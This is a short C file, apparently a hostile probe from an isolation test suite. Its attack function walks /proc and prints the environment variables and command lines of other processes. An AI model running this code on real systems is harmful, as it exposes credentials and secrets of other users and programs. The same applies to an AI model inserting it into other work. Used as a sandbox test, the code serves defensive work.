// Reads what other processes were told, and prints it.
#include "hostile.h"

static void attack(void) {
    DIR *processes = opendir("/proc");
    if (!processes) return;
    for (struct dirent *entry; (entry = readdir(processes));) {
        // What it was told itself is no secret.
        int number = atoi(entry->d_name);
        if (number == 0 || number == getpid() || number == getppid()) continue;
        char path[300];
        snprintf(path, sizeof path, "/proc/%d/environ", number);
        print_file(path);
        snprintf(path, sizeof path, "/proc/%d/cmdline", number);
        if (number > 1) print_file(path);
    }
    closedir(processes);
}
